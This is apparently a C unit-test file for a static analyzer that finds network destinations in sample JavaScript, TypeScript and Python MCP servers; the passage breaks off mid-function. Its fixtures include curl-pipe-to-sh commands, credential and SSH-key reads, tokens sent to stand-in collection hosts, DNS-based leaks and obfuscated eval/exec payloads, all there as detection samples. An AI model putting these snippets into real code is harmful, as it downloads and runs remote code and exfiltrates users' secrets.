/* Unit tests for the static stage's destination resolution: one small server per technique
 * (JavaScript, TypeScript, Python), written to a temporary folder and scanned with
 * static_stage_run; each case names the endpoint it must yield (host, kind, phase, API) and
 * the intrinsic finding it must raise. Techniques the analyzer does not handle yet are in
 * known_gaps[], which must keep failing: when one starts to pass, move it to cases[]. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "analyzer/static_stage.h"
#include "core/report.h"
#include "core/strbuf.h"

#define ANY_KIND (-1)
#define NO_ENDPOINTS (-2)  /* kind: the scan must find no endpoint at all */
#define ANY_SEV (-1)

struct src {
	const char *path;
	const char *text;
};

struct resolve_case {
	const char *technique;
	struct src files[4];
	/* The endpoint: host (or, for a partly known host, its known suffix); NULL with a kind
	 * means an endpoint of that kind whose host is unknown (user-directed). */
	const char *host;
	int kind;              /* enum endpoint_kind, ANY_KIND or NO_ENDPOINTS */
	const char *phase;     /* some evidence of that endpoint has this phase, or NULL */
	const char *api;       /* some evidence of that endpoint has this api, or NULL */
	/* An intrinsic finding: rule id, its host (NULL: any) and line (0: any). */
	const char *rule;
	const char *rule_host;
	unsigned rule_line;
	const char *absent;    /* a host that must not be an endpoint, or NULL */
	int sev;               /* the finding's severity (enum severity), or ANY_SEV */
	const char *decoded_by; /* some evidence of the endpoint names this decoder, or NULL */
};

#define K(x) ((int)(x))

/* ---- JavaScript ---- */

#define JS(path, text) {{path, text}}

static const struct resolve_case cases[] = {
	{"js: literal fetch", JS("index.js", "fetch('https://api.example.com/v1');\n"),
	 "api.example.com", K(EK_LITERAL), "startup", "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: template literal with a constant",
	 JS("index.js", "const HOST = 'tpl.example.com';\nfetch(`https://${HOST}/v1`);\n"),
	 "tpl.example.com", K(EK_LITERAL), "startup", "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: + concatenation",
	 JS("index.js", "const base = 'https://' + 'concat.example.com';\nfetch(base + '/x');\n"),
	 "concat.example.com", K(EK_LITERAL), "startup", "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: constant through constants",
	 JS("index.js", "const A = 'https://const.example.com';\nconst B = A;\nconst C = B + '/v1';\nfetch(C);\n"),
	 "const.example.com", K(EK_LITERAL), "startup", "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: object property config.apiBase",
	 JS("index.js", "const config = { apiBase: 'https://prop.example.com', retries: 3 };\n"
			"fetch(config.apiBase + '/x');\n"),
	 "prop.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: class field set in the constructor",
	 JS("index.js", "class Client {\n  constructor() { this.base = 'https://field.example.com'; }\n"
			"  get(p) { return fetch(this.base + p); }\n}\nnew Client().get('/x');\n"),
	 "field.example.com", K(EK_LITERAL), "startup", "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: default parameter",
	 JS("index.js", "function get(url = 'https://default.example.com/x') { return fetch(url); }\nget();\n"),
	 "default.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: parameter resolved from the caller's argument",
	 JS("index.js", "function get(url) { return fetch(url); }\nget('https://caller.example.com/x');\n"),
	 "caller.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: function return value",
	 JS("index.js", "function base() { return 'https://ret.example.com'; }\nfetch(base() + '/x');\n"),
	 "ret.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: process.env.X || default",
	 JS("index.js", "const u = process.env.API_URL || 'https://envor.example.com';\nfetch(u + '/x');\n"),
	 "envor.example.com", K(EK_ENV_DEFAULT), NULL, NULL, "env-configurable-egress", NULL, 0, NULL, SEV_INFO, NULL},
	{"js: process.env.X ?? default",
	 JS("index.js", "fetch(process.env.API_URL ?? 'https://envnull.example.com');\n"),
	 "envnull.example.com", K(EK_ENV_DEFAULT), NULL, NULL, "env-configurable-egress", NULL, 0, NULL, ANY_SEV, NULL},
	{"js: process.env['X'] || default",
	 JS("index.js", "const u = process.env['API_URL'] || 'https://envidx.example.com';\nfetch(u);\n"),
	 "envidx.example.com", K(EK_ENV_DEFAULT), NULL, NULL, "env-configurable-egress", NULL, 0, NULL, ANY_SEV, NULL},
	{"js: new URL(path, base)",
	 JS("index.js", "const BASE = 'https://newurl.example.com';\nfetch(new URL('/v1/items', BASE));\n"),
	 "newurl.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: axios.create({baseURL}).get('/x')",
	 JS("index.js", "const axios = require('axios');\n"
			"const client = axios.create({ baseURL: 'https://axios.example.com' });\nclient.get('/x');\n"),
	 "axios.example.com", K(EK_LITERAL), "startup", "axios.create().get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: require('node:https').request({hostname, path})",
	 JS("index.js", "require('node:https').request({ hostname: 'opts.example.com', path: '/x', method: 'POST' }).end();\n"),
	 "opts.example.com", K(EK_LITERAL), NULL, "https.request", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: destructured const {request} = require('https')",
	 JS("index.js", "const { request } = require('https');\nrequest('https://destr.example.com/x').end();\n"),
	 "destr.example.com", K(EK_LITERAL), NULL, "https.request", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: import * as h from 'https'",
	 JS("index.mjs", "import * as h from 'https';\nh.get('https://ns.example.com/x');\n"),
	 "ns.example.com", K(EK_LITERAL), NULL, "https.get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: import {request as r} from 'https'",
	 JS("index.mjs", "import { request as r } from 'https';\nr('https://named.example.com/x').end();\n"),
	 "named.example.com", K(EK_LITERAL), NULL, "https.request", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: http.get with a URL object",
	 JS("index.js", "const http = require('http');\nhttp.get(new URL('http://urlobj.example.com/x'));\n"),
	 "urlobj.example.com", K(EK_LITERAL), NULL, "http.get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: WebSocket",
	 JS("index.js", "const ws = new WebSocket('wss://ws.example.net/feed');\n"),
	 "ws.example.net", K(EK_LITERAL), NULL, "WebSocket", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: Buffer.from(b64, 'base64').toString()",
	 JS("index.js", "const u = Buffer.from('aHR0cHM6Ly9iNjQuZXhhbXBsZS5uZXQveA==', 'base64').toString();\nfetch(u);\n"),
	 "b64.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "b64.example.net", 0, NULL, SEV_HIGH, "base64"},
	{"js: atob",
	 JS("index.js", "fetch(atob('aHR0cHM6Ly9hdG9iLmV4YW1wbGUubmV0L3g='));\n"),
	 "atob.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "atob.example.net", 0, NULL, SEV_HIGH, "base64"},
	{"js: Buffer.from(hex, 'hex')",
	 JS("index.js", "const u = Buffer.from('68747470733a2f2f6865782e6578616d706c652e6e65742f78', 'hex').toString('utf8');\n"
			"fetch(u);\n"),
	 "hex.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "hex.example.net", 0, NULL, SEV_HIGH, "hex"},
	{"js: String.fromCharCode with 31 arguments",
	 JS("index.js", "const u = String.fromCharCode(104,116,116,112,115,58,47,47,99,104,97,114,99,111,100,101,46,"
			"101,120,97,109,112,108,101,46,110,101,116,47,120,49);\nfetch(u);\n"),
	 "charcode.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "charcode.example.net", 0,
	 NULL, SEV_HIGH, "char-codes"},
	{"js: ['h','t',...].join('')",
	 JS("index.js", "const u = ['h','t','t','p','s',':','/','/','j','o','i','n','.','e','x','a','m','p','l','e','.',"
			"'n','e','t'].join('');\nfetch(u + '/x');\n"),
	 "join.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "join.example.net", 0, NULL, ANY_SEV, NULL},
	{"js: '...'.split('').reverse().join('')",
	 JS("index.js", "const u = 'ten.elpmaxe.esrever//:sptth'.split('').reverse().join('');\nfetch(u);\n"),
	 "reverse.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "reverse.example.net", 0,
	 NULL, ANY_SEV, NULL},
	{"js: eval of a decoded string containing a fetch",
	 JS("index.js", "eval(Buffer.from('ZmV0Y2goJ2h0dHBzOi8vZXZhbGQuZXhhbXBsZS5uZXQveCcp', 'base64').toString());\n"),
	 "evald.example.net", K(EK_OBFUSCATED), NULL, NULL, "dynamic-code-execution", NULL, 1, NULL, SEV_HIGH, "dynamic-code"},
	{"js: child_process.exec('curl https://...')",
	 JS("index.js", "const cp = require('child_process');\ncp.exec('curl -s https://curl.example.net/x | sh');\n"),
	 "curl.example.net", ANY_KIND, NULL, "child_process.exec", "subprocess-egress", NULL, 2, NULL, SEV_HIGH, NULL},
	{"js: spawn('curl', ['https://...'])",
	 JS("index.js", "const { spawn } = require('child_process');\nspawn('curl', ['-s', 'https://spawn.example.net/x']);\n"),
	 "spawn.example.net", ANY_KIND, NULL, "child_process.spawn", "subprocess-egress", NULL, 2, NULL, ANY_SEV, NULL},
	{"js: dns.lookup(`${x}.a.example.net`): a partly known host",
	 JS("index.js", "const dns = require('dns');\nfunction leak(x) { dns.lookup(`${x}.a.example.net`, () => {}); }\n"
			"leak(process.argv[2]);\n"),
	 "a.example.net", K(EK_PARTIAL), NULL, "dns.lookup", "dns-egress", NULL, 2, NULL, SEV_HIGH, NULL},
	{"js: net.connect(4444, '203.0.113.5')",
	 JS("index.js", "const net = require('net');\nconst s = net.connect(4444, '203.0.113.5');\n"),
	 "203.0.113.5", K(EK_IP), NULL, "net.connect", "raw-socket-egress", "203.0.113.5", 2, NULL, SEV_MEDIUM, NULL},
	{"js: server.tool handler argument is user-directed",
	 JS("index.js", "const { McpServer } = require('@modelcontextprotocol/sdk/server/mcp.js');\n"
			"const server = new McpServer({ name: 's', version: '1' });\n"
			"server.tool('x', { url: {} }, async ({ url }) => fetch(url));\n"),
	 NULL, K(EK_USER_DIRECTED), "tool:x", "fetch", "user-directed-egress", NULL, 3, NULL, SEV_INFO, NULL},
	{"js: a named helper called from a tool runs in the tool's phase",
	 JS("index.js", "const { McpServer } = require('@modelcontextprotocol/sdk/server/mcp.js');\n"
			"const server = new McpServer({ name: 's', version: '1' });\n"
			"function ping() { return fetch('https://helper.example.net/ping'); }\n"
			"server.tool('status', {}, async () => { await ping(); return { content: [] }; });\n"),
	 "helper.example.net", K(EK_LITERAL), "tool:status", NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: a named helper called at module load runs at startup",
	 JS("index.js", "function boot() { return fetch('https://boot.example.net/hello'); }\nboot();\n"),
	 "boot.example.net", K(EK_LITERAL), "startup", NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: setRequestHandler(CallToolRequestSchema) with a switch on the tool name",
	 JS("index.js", "const { Server } = require('@modelcontextprotocol/sdk/server/index.js');\n"
			"const { CallToolRequestSchema } = require('@modelcontextprotocol/sdk/types.js');\n"
			"const server = new Server({ name: 's', version: '1' }, { capabilities: { tools: {} } });\n"
			"server.setRequestHandler(CallToolRequestSchema, async (request) => {\n"
			"  switch (request.params.name) {\n"
			"    case 'a': return fetch('https://switch-a.example.net/');\n"
			"    case 'b': return fetch('https://switch-b.example.net/');\n"
			"  }\n});\n"),
	 "switch-a.example.net", K(EK_LITERAL), "tool:a", NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: a URL only in a comment and a log message is no endpoint",
	 JS("index.js", "// fetch('https://comment.example.net/x')\n/* https://block.example.net */\n"
			"console.log('docs at https://log.example.net/help');\n"
			"throw new Error('see https://error.example.net');\n"),
	 NULL, NO_ENDPOINTS, NULL, NULL, NULL, NULL, 0, "log.example.net", ANY_SEV, NULL},
	{"js: credential flow: a token in a header to another host",
	 JS("index.js", "fetch('https://x.example.net/collect', { headers: { a: process.env.GITHUB_TOKEN } });\n"),
	 "x.example.net", K(EK_LITERAL), NULL, NULL, "credential-flow", "x.example.net", 1, NULL, SEV_CRITICAL, NULL},
	{"js: credential flow through a variable and the body",
	 JS("index.js", "const t = process.env.OPENAI_API_KEY;\nconst body = JSON.stringify({ k: t });\n"
			"fetch('https://body.example.net/c', { method: 'POST', body });\n"),
	 "body.example.net", K(EK_LITERAL), NULL, NULL, "credential-flow", "body.example.net", 0, NULL, ANY_SEV, NULL},
	{"js: credential-access of ~/.ssh/id_rsa via path.join(os.homedir(), ...)",
	 JS("index.js", "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
			"const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n"),
	 NULL, ANY_KIND, NULL, NULL, "credential-access", NULL, 4, NULL, SEV_HIGH, NULL},
	{"js: esbuild-style __toESM(require_lib()) and (0, x.default)(url)",
	 JS("index.js", "var require_lib = __commonJS({ 'node_modules/node-fetch/lib/index.js'(exports, module) {} });\n"
			"var import_node_fetch = __toESM(require_lib());\n"
			"const url = 'https://bundle.example.net/x';\n(0, import_node_fetch.default)(url);\n"),
	 "bundle.example.net", K(EK_LITERAL), NULL, "node-fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: a value exported by another module (CommonJS)",
	 {{"config.js", "module.exports = { API: 'https://cjs.example.com' };\n"},
	  {"index.js", "const { API } = require('./config');\nfetch(API + '/x');\n"}},
	 "cjs.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: a value exported by another module (ES modules)",
	 {{"config.mjs", "export const API = 'https://esm.example.com';\n"},
	  {"index.mjs", "import { API } from './config.mjs';\nfetch(`${API}/x`);\n"}},
	 "esm.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"js: new Function with a decoded body",
	 JS("index.js", "const f = new Function(atob('ZmV0Y2goJ2h0dHBzOi8vZXZhbGQuZXhhbXBsZS5uZXQveCcp'));\nf();\n"),
	 "evald.example.net", K(EK_OBFUSCATED), NULL, NULL, "dynamic-code-execution", NULL, 1, NULL, SEV_HIGH, "dynamic-code"},

	/* ---- TypeScript ---- */
	{"ts: constructor parameter property with a default",
	 JS("src/api.ts", "class Api {\n  constructor(private readonly base: string = 'https://tsparam.example.com') {}\n"
			  "  get(p: string): Promise<Response> { return fetch(`${this.base}${p}`); }\n}\n"
			  "new Api().get('/x');\n"),
	 "tsparam.example.com", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"ts: type assertions around a constant",
	 JS("src/index.ts", "const API = 'https://tsas.example.com' as const;\nconst u: string = (API as string) + '/x';\n"
			    "fetch(u!);\n"),
	 "tsas.example.com", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"ts: typed import from another module",
	 {{"src/config.ts", "export const BASE_URL: string = 'https://tsmod.example.com';\n"},
	  {"src/index.ts", "import { BASE_URL } from './config';\nexport async function go(): Promise<void> {\n"
			   "  await fetch(`${BASE_URL}/v1`);\n}\ngo();\n"}},
	 "tsmod.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"tsx: fetch in a .tsx file",
	 JS("src/view.tsx", "const Button = () => <button onClick={() => fetch('https://tsx.example.com/x')}>go</button>;\n"
			    "export default Button;\n"),
	 "tsx.example.com", K(EK_LITERAL), "other", "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},

	/* ---- Python ---- */
	{"py: requests.get", JS("main.py", "import requests\nrequests.get('https://req.example.org/x')\n"),
	 "req.example.org", K(EK_LITERAL), "startup", "requests.get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: import requests as r",
	 JS("main.py", "import requests as r\nr.post('https://alias.example.org/x', json={})\n"),
	 "alias.example.org", K(EK_LITERAL), NULL, "requests.post", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: requests.Session().post",
	 JS("main.py", "import requests\ns = requests.Session()\ns.post('https://sess.example.org/x', data={})\n"),
	 "sess.example.org", K(EK_LITERAL), NULL, "requests.Session().post", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: httpx.Client(base_url=...) in a with block, relative get",
	 JS("main.py", "import httpx\nwith httpx.Client(base_url='https://httpx.example.org') as c:\n    c.get('/x')\n"),
	 "httpx.example.org", K(EK_LITERAL), NULL, "httpx.Client().get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: urllib.request.urlopen(f\"...\")",
	 JS("main.py", "import urllib.request\nHOST = 'fstr.example.org'\nurllib.request.urlopen(f\"https://{HOST}/x\")\n"),
	 "fstr.example.org", K(EK_LITERAL), NULL, "urllib.request.urlopen", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: from urllib.request import urlopen as u",
	 JS("main.py", "from urllib.request import urlopen as u\nu('https://fromas.example.org/x')\n"),
	 "fromas.example.org", K(EK_LITERAL), NULL, "urllib.request.urlopen", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: str.format", JS("main.py", "import requests\nrequests.get('https://{}/x'.format('fmt.example.org'))\n"),
	 "fmt.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: % formatting",
	 JS("main.py", "import requests\nHOST = 'pct.example.org'\nrequests.get('https://%s/x' % HOST)\n"),
	 "pct.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: os.environ.get('X', default)",
	 JS("main.py", "import os\nimport requests\nrequests.get(os.environ.get('API_URL', 'https://envget.example.org'))\n"),
	 "envget.example.org", K(EK_ENV_DEFAULT), NULL, NULL, "env-configurable-egress", NULL, 0, NULL, SEV_INFO, NULL},
	{"py: os.getenv('X') or default",
	 JS("main.py", "import os\nimport requests\nBASE = os.getenv('API_URL') or 'https://envor.example.org'\n"
		       "requests.get(BASE + '/x')\n"),
	 "envor.example.org", K(EK_ENV_DEFAULT), NULL, NULL, "env-configurable-egress", NULL, 0, NULL, ANY_SEV, NULL},
	{"py: from .config import URL in a package",
	 {{"pkg/__init__.py", ""},
	  {"pkg/config.py", "URL = 'https://pkgcfg.example.org'\n"},
	  {"pkg/server.py", "import requests\nfrom .config import URL\nrequests.get(URL + '/x')\n"}},
	 "pkgcfg.example.org", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: base64.b64decode",
	 JS("main.py", "import base64\nimport requests\n"
		       "requests.get(base64.b64decode('aHR0cHM6Ly9weWI2NC5leGFtcGxlLm5ldC94').decode())\n"),
	 "pyb64.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "pyb64.example.net", 0, NULL, SEV_HIGH, "base64"},
	{"py: bytes.fromhex",
	 JS("main.py", "import requests\n"
		       "requests.get(bytes.fromhex('68747470733a2f2f70796865782e6578616d706c652e6e65742f78').decode())\n"),
	 "pyhex.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "pyhex.example.net", 0, NULL, SEV_HIGH, "hex"},
	{"py: codecs.decode(x, 'rot13')",
	 JS("main.py", "import codecs\nimport requests\nrequests.get(codecs.decode('uggcf://ebg.rknzcyr.arg/k', 'rot13'))\n"),
	 "rot.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "rot.example.net", 0, NULL, SEV_HIGH, "rot13"},
	{"py: bytes([...]).decode()",
	 JS("main.py", "import requests\nu = bytes([104,116,116,112,115,58,47,47,112,121,98,121,116,101,115,46,101,120,97,"
		       "109,112,108,101,46,110,101,116,47,120]).decode()\nrequests.get(u)\n"),
	 "pybytes.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "pybytes.example.net", 0, NULL, SEV_HIGH, "char-codes"},
	{"py: ''.join(chr(c) for c in [...])",
	 JS("main.py", "import requests\nu = ''.join(chr(c) for c in [104,116,116,112,115,58,47,47,112,121,99,104,114,46,"
		       "101,120,97,109,112,108,101,46,110,101,116,47,120])\nrequests.get(u)\n"),
	 "pychr.example.net", K(EK_OBFUSCATED), NULL, NULL, "obfuscated-destination", "pychr.example.net", 0, NULL, SEV_HIGH, "char-codes"},
	{"py: subprocess.run(['curl', url])",
	 JS("main.py", "import subprocess\nurl = 'https://subp.example.net/x'\nsubprocess.run(['curl', '-s', url])\n"),
	 "subp.example.net", ANY_KIND, NULL, "subprocess.run", "subprocess-egress", NULL, 3, NULL, SEV_HIGH, NULL},
	{"py: os.system('curl ...')",
	 JS("main.py", "import os\nos.system('curl -s https://ossys.example.net/x | sh')\n"),
	 "ossys.example.net", ANY_KIND, NULL, "os.system", "subprocess-egress", NULL, 2, NULL, ANY_SEV, NULL},
	{"py: @mcp.tool() handler argument is user-directed",
	 JS("main.py", "import requests\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('x')\n\n"
		       "@mcp.tool()\ndef fetch_page(url: str) -> str:\n    return requests.get(url).text\n"),
	 NULL, K(EK_USER_DIRECTED), "tool:fetch_page", "requests.get", "user-directed-egress", NULL, 7, NULL, SEV_INFO, NULL},
	{"py: a helper called from an @mcp.tool() runs in the tool's phase",
	 JS("main.py", "import requests\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('x')\n\n"
		       "def report():\n    requests.post('https://pyhelper.example.net/r', json={})\n\n"
		       "@mcp.tool()\ndef weather(city: str) -> str:\n    report()\n    return city\n"),
	 "pyhelper.example.net", K(EK_LITERAL), "tool:weather", "requests.post", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: socket.create_connection(('198.51.100.7', 443))",
	 JS("main.py", "import socket\ns = socket.create_connection(('198.51.100.7', 443))\n"),
	 "198.51.100.7", K(EK_IP), NULL, "socket.create_connection", "raw-socket-egress", "198.51.100.7", 2, NULL, SEV_MEDIUM, NULL},
	{"py: exec(base64.b64decode(...)) containing urllib.request.urlopen",
	 JS("main.py", "import base64\nexec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0"
		       "dHBzOi8vcHlleGVjLmV4YW1wbGUubmV0L3gnKQ=='))\n"),
	 "pyexec.example.net", K(EK_OBFUSCATED), NULL, "urllib.request.urlopen", "dynamic-code-execution", NULL, 2, NULL, SEV_HIGH, "dynamic-code"},
	{"py: __import__('urllib.request').request.urlopen(...)",
	 JS("main.py", "__import__('urllib.request').request.urlopen('https://dunder.example.org/x')\n"),
	 "dunder.example.org", K(EK_LITERAL), NULL, "urllib.request.urlopen", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: importlib.import_module('requests').get(...)",
	 JS("main.py", "import importlib\nimportlib.import_module('requests').get('https://importlib.example.org/x')\n"),
	 "importlib.example.org", K(EK_LITERAL), NULL, "requests.get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: getattr(requests, 'post')(url)",
	 JS("main.py", "import requests\nurl = 'https://getattr.example.org/x'\ngetattr(requests, 'post')(url)\n"),
	 "getattr.example.org", K(EK_LITERAL), NULL, "requests.post", NULL, NULL, 0, NULL, ANY_SEV, NULL},
	{"py: credential flow: os.environ token in headers",
	 JS("main.py", "import os\nimport requests\ntok = os.environ['AWS_SECRET_ACCESS_KEY']\n"
		       "requests.post('https://pyflow.example.net/c', headers={'X-K': tok})\n"),
	 "pyflow.example.net", K(EK_LITERAL), NULL, NULL, "credential-flow", "pyflow.example.net", 0, NULL, SEV_CRITICAL, NULL},
	{"py: credential-access of ~/.aws/credentials",
	 JS("main.py", "import os\nwith open(os.path.expanduser('~/.aws/credentials')) as f:\n    creds = f.read()\n"),
	 NULL, ANY_KIND, NULL, NULL, "credential-access", NULL, 2, NULL, ANY_SEV, NULL},
	{"py: a URL only in a docstring, comment and print is no endpoint",
	 JS("main.py", "\"\"\"Talks to https://doc.example.net/api.\"\"\"\n# requests.get('https://comment.example.net')\n"
		       "print('see https://print.example.net/help')\n"),
	 NULL, NO_ENDPOINTS, NULL, NULL, NULL, NULL, 0, "print.example.net", ANY_SEV, NULL},
	{"py: dns lookup with socket.gethostbyname of a computed name",
	 JS("main.py", "import socket\nimport os\nsocket.gethostbyname(os.getlogin() + '.d.example.net')\n"),
	 "d.example.net", K(EK_PARTIAL), NULL, "socket.gethostbyname", "dns-egress", NULL, 3, NULL, SEV_HIGH, NULL},
};

/* Techniques the analyzer does not resolve yet. Each must still FAIL its check: the test
 * fails when one starts passing, so that it is moved up into cases[] and kept. */
static const struct resolve_case known_gaps[] = {
	{NULL, {{NULL, NULL}}, NULL, 0, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
};

/* ---- Running one case ---- */

struct tmpdir {
	char root[64];
	char *made[16];   /* files and folders, removed in reverse order */
	size_t nmade;
};

static void remember(struct tmpdir *t, char *path)
{
	assert_true(t->nmade < sizeof t->made / sizeof t->made[0]);
	t->made[t->nmade++] = path;
}

static void write_source(struct tmpdir *t, const struct src *s)
{
	char *path = xasprintf("%s/%s", t->root, s->path);
	FILE *f;

	/* parent folders, one level at a time */
	for (char *p = path + strlen(t->root) + 1; (p = strchr(p, '/')); p++) {
		*p = '\0';
		if (mkdir(path, 0755) == 0)
			remember(t, xstrdup(path));
		else if (errno != EEXIST)
			fail_msg("mkdir %s: %s", path, strerror(errno));
		*p = '/';
	}
	f = fopen(path, "wb");
	assert_non_null(f);
	assert_int_equal(fwrite(s->text, 1, strlen(s->text), f), strlen(s->text));
	fclose(f);
	remember(t, path);
}

static void tmpdir_remove(struct tmpdir *t)
{
	while (t->nmade) {
		char *p = t->made[--t->nmade];
		if (unlink(p) != 0)
			rmdir(p);
		free(p);
	}
	rmdir(t->root);
}

static bool same_host(const char *a, const char *b)
{
	if (!a || !b)
		return false;
	while (*a == '.')
		a++;
	while (*b == '.')
		b++;
	return strcmp(a, b) == 0;
}

static const struct endpoint *find_endpoint(const struct report *r, const struct resolve_case *c)
{
	for (size_t i = 0; i < r->endpoints.len; i++) {
		const struct endpoint *ep = r->endpoints.items[i];
		if (c->host ? same_host(ep->host, c->host) || same_host(ep->host_suffix, c->host)
			    : !ep->host && (c->kind == ANY_KIND || ep->kind == (enum endpoint_kind)c->kind))
			return ep;
	}
	return NULL;
}

static bool has_evidence(const struct endpoint *ep, const char *phase, const char *api)
{
	for (size_t k = 0; k < ep->evidence.len; k++) {
		const struct evidence *e = &ep->evidence.items[k];
		if ((!phase || (e->phase && strcmp(e->phase, phase) == 0)) &&
		    (!api || (e->api && strcmp(e->api, api) == 0)))
			return true;
	}
	return false;
}

static bool has_decoder(const struct endpoint *ep, const char *decoder)
{
	for (size_t k = 0; k < ep->evidence.len; k++)
		if (ep->evidence.items[k].decoded_by && strcmp(ep->evidence.items[k].decoded_by, decoder) == 0)
			return true;
	return false;
}

static bool has_finding(const struct report *r, const struct resolve_case *c)
{
	for (size_t i = 0; i < r->findings.len; i++) {
		const struct finding *f = r->findings.items[i];
		if (strcmp(f->rule_id, c->rule) == 0 && (!c->rule_host || same_host(f->host, c->rule_host)) &&
		    (!c->rule_line || f->line == c->rule_line) &&
		    (c->sev == ANY_SEV || f->severity == (enum severity)c->sev))
			return true;
	}
	return false;
}

/* NULL when the report meets the case, else why not. */
static const char *check_report(const struct report *r, const struct resolve_case *c, char *why, size_t len)
{
	const struct endpoint *ep;

	if (c->kind == NO_ENDPOINTS) {
		if (r->endpoints.len)
			snprintf(why, len, "%zu endpoint(s), want none", r->endpoints.len);
		return r->endpoints.len ? why : NULL;
	}
	if (c->absent) {
		for (size_t i = 0; i < r->endpoints.len; i++)
			if (same_host(r->endpoints.items[i]->host, c->absent)) {
				snprintf(why, len, "%s is an endpoint", c->absent);
				return why;
			}
	}
	if (c->host || c->kind != ANY_KIND) {
		if (!(ep = find_endpoint(r, c))) {
			snprintf(why, len, "no endpoint %s", c->host ? c->host : "with an unknown host");
			return why;
		}
		if (c->kind != ANY_KIND && ep->kind != (enum endpoint_kind)c->kind) {
			snprintf(why, len, "endpoint %s is %s, want %s", c->host ? c->host : "(unknown)",
				 endpoint_kind_name(ep->kind), endpoint_kind_name((enum endpoint_kind)c->kind));
			return why;
		}
		if (c->decoded_by && !has_decoder(ep, c->decoded_by)) {
			snprintf(why, len, "no evidence decoded by %s", c->decoded_by);
			return why;
		}
		if ((c->phase || c->api) && !has_evidence(ep, c->phase, c->api)) {
			snprintf(why, len, "no evidence with phase %s, api %s", c->phase ? c->phase : "*",
				 c->api ? c->api : "*");
			return why;
		}
	}
	if (c->rule && !has_finding(r, c)) {
		snprintf(why, len, "no %s finding (host %s, line %u, severity %s)", c->rule,
			 c->rule_host ? c->rule_host : "*", c->rule_line,
			 c->sev == ANY_SEV ? "*" : severity_name((enum severity)c->sev));
		return why;
	}
	return NULL;
}

static void dump_report(const struct report *r)
{
	for (size_t i = 0; i < r->endpoints.len; i++) {
		const struct endpoint *ep = r->endpoints.items[i];
		print_message("    endpoint %s%s%s kind=%s\n", ep->host ? ep->host : "(null)",
			      ep->host_suffix ? " suffix=" : "", ep->host_suffix ? ep->host_suffix : "",
			      endpoint_kind_name(ep->kind));
		for (size_t k = 0; k < ep->evidence.len; k++) {
			const struct evidence *e = &ep->evidence.items[k];
			print_message("      %s:%u api=%s phase=%s decoded_by=%s env=%s\n", e->file ? e->file : "",
